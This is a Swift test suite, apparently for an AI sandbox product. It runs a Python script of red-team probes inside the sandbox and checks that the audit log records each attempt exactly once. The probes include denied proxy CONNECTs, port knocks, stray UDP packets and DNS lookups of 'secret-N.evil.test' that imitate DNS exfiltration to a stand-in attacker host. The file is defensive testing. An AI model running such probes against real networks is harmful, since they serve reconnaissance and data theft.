import AiboxSystem
import AiboxTestSupport
import AiboxWire
import Glibc
import Testing

extension Sandboxes {
    /// Red team H09: what was tried and what is in the log are the same.
    @Suite("The log is complete")
    struct CompletenessTests {
        /// Each line is one kind of attempt, made as often as it says; told apart in the log by type, subject and rule.
        private static func script(_ origin: LabOrigin) -> String {
            """
            import os, socket, struct, urllib.request

            GATEWAY, PROXY = "10.200.1.1", ("10.200.1.1", 3128)

            def ask(place, text):
                with socket.create_connection(place, 10) as link:
                    link.settimeout(10)
                    link.sendall(text.encode())
                    while link.recv(4096): pass

            def knock(place):
                try: socket.create_connection(place, 5).close()
                except OSError: return
                raise SystemExit("%s:%d let somebody in" % place)

            def send(place):
                with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as link: link.sendto(b"x", place)

            def name(text):
                query = struct.pack("!6H", 7, 0x100, 1, 0, 0, 0)
                query += b"".join(bytes([len(p)]) + p.encode() for p in text.split(".")) + struct.pack("!BHH", 0, 1, 1)
                with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as link:
                    link.settimeout(10)
                    link.sendto(query, (GATEWAY, 53))
                    link.recv(512)

            for i in range(3): ask(PROXY, "CONNECT denied-%d.test:443 HTTP/1.1\\r\\nHost: denied-%d.test:443\\r\\n\\r\\n" % (i, i))
            for i in range(2): ask(PROXY, "GET http://denied.test/ HTTP/1.1\\r\\nHost: denied.test\\r\\nConnection: close\\r\\n\\r\\n")
            ask(PROXY, "GET http://192.0.2.7/ HTTP/1.1\\r\\nHost: 192.0.2.7\\r\\nConnection: close\\r\\n\\r\\n")
            for i in range(2): ask((GATEWAY, 80), "GET / HTTP/1.1\\r\\nHost: plain.test\\r\\nConnection: close\\r\\n\\r\\n")
            for i in range(4): knock(("203.0.113.7", 443 + i))
            for i in range(2): knock((GATEWAY, 22))
            for i in range(3): send(("203.0.113.7", 53))
            for i in range(5): send((GATEWAY, 9999))
            for i in range(6): name("secret-%d.evil.test" % i)
            name("allowed.test")
            for i in range(4): ask(PROXY, "GET http://allowed.test:\(origin.http)/%d HTTP/1.1\\r\\nHost: allowed.test:\(origin.http)\\r\\nConnection: close\\r\\n\\r\\n" % i)
            ask_model = urllib.request.Request(
                os.environ["ANTHROPIC_BASE_URL"] + "/v1/messages", b'{"model":"claude-lab","max_tokens":5}',
                {"x-api-key": os.environ["ANTHROPIC_API_KEY"], "content-type": "application/json"})
            urllib.request.urlopen(ask_model, timeout=20).read()
            for i in range(7): name("again.evil.test")
            """
        }

        /// Type, subject and rule, with how many of them.
        private static func expected(_ fixture: SandboxFixture, _ origin: LabOrigin) -> [String: Int] {
            let served = "allowed.test:\(origin.http)"
            var expected = [
                "network.deny denied.test:80 default-deny": 2, "network.deny plain.test:80 default-deny": 2,
                "network.deny 192.0.2.7:80 default-deny": 1,
                "network.deny other addresses pre.foreign-tcp": 4,
                "network.deny other addresses pre.foreign-udp": 3,
                "network.deny closed ports of the gateway in.denied-tcp": 2,
                "network.deny closed ports of the gateway in.denied-udp": 5,
                "dns.response allowed.test": 1, "dns.response again.evil.test default-deny": 7,
                "network.allow \(served) lab": 4, "network.end \(served)": 4,
                // What the policies in Rego say of this kind of request.
                "policy.allow": 1,
                "llm.request claude-lab": 1, "llm.response claude-lab": 1, "session.start": 1, "session.end": 1,
            ]
            for number in 0..<3 { expected["network.deny denied-\(number).test:443 default-deny"] = 1 }
            for number in 0..<6 { expected["dns.response secret-\(number).evil.test default-deny"] = 1 }
            return expected
        }

        /// What the life of a sandbox that is lent one credential adds, whatever happens in it.
        private static let life: [String: Int] = [
            "audit.open": 1, "policy.allow": 2, "sandbox.create": 1, "sandbox.config": 1, "credential.issue": 1,
            "gateway.start": 1, "sandbox.start": 1, "sandbox.stop": 1, "gateway.stop": 1,
        ]

        @Test("every probe, request, question and shell of a session is in the log once, and nothing else is")
        func session() throws {
            let origin = try LabOrigin(geteuid() == 0 ? 31 : 33)
            let provider = try LabProvider()
            let policy =
                origin.policy().replacing("targets: [", with: "targets: [127.0.0.1/32, ")
                + "credentials: {llm_api_key_ttl: 1h}\nllm: {models: [\"claude-*\"]}\n"
            let fixture = try SandboxFixture(
                policy: policy,
                settings: [
                    "AIBOX_LLM_API_KEY": "sk-canary-complete", "AIBOX_LLM_PROVIDER": "anthropic",
                    "AIBOX_CREDENTIALS_STORE": "environment",
                    "AIBOX_NETWORK_LLM_GATEWAY": "http://127.0.0.1:\(provider.port)",
                ])
            try File.replace(fixture.workspace + "/script.py", with: Self.script(origin), mode: 0o644)
            try fixture.start()
            let result = try fixture.shell("python3", "script.py")
            try #require(result.succeeded, "\(result.text) \(result.errorText)")
            #expect(try fixture.aibox.run("stop", "--name", fixture.name).succeeded)

            let log = try fixture.aibox.run("audit", "export", "--format", "jsonl")
            var found: [String: Int] = [:]
            for line in log.text.split(separator: "\n") {
                let event = try JSONParser.parse(Array(line.utf8))
                let type = try #require(event["type"]?.stringValue)
                let details = event["details"]
                // Of packets and repeated questions one event tells how many there were.
                let count = details?["packets"]?.wholeNumber ?? details?["queries"]?.wholeNumber ?? 1
                let isNamed = ["network", "dns", "llm"].contains { type.hasPrefix($0) }
                let words = isNamed ? [type, event["subject"]?.stringValue, details?["rule"]?.stringValue] : [type]
                found[words.compactMap(\.self).joined(separator: " "), default: 0] += Int(count)
            }
            // The command and the connection that later ones would have shared race for who opens one.
            #expect((found["ssh.open"] ?? 0) >= 1 && found["ssh.open"] == found["ssh.close"])
            for type in ["ssh.open", "ssh.close"] { found[type] = nil }
            let expected = Self.expected(fixture, origin).merging(Self.life) { $0 + $1 }
            for key in Set(expected.keys).union(found.keys).sorted() {
                #expect(found[key] ?? 0 == expected[key] ?? 0, "\(key)")
            }
            #expect(try fixture.aibox.run("audit", "verify").succeeded)
        }
    }
}
